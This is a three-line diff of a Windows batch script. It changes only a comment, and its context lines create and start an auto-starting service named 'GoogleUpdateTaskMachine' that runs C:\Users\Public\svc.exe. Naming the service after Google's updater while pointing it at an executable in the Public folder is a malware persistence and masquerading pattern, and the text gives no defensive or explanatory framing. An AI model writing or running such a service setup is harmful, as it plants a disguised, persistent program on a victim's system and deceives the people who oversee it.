@@ -1,3 +1,3 @@
-REM bootstrap 9448 v0
+REM run 9102 v0
 sc create GoogleUpdateTaskMachine binPath= "cmd.exe /c C:\Users\Public\svc.exe" start= auto
 sc start GoogleUpdateTaskMachine
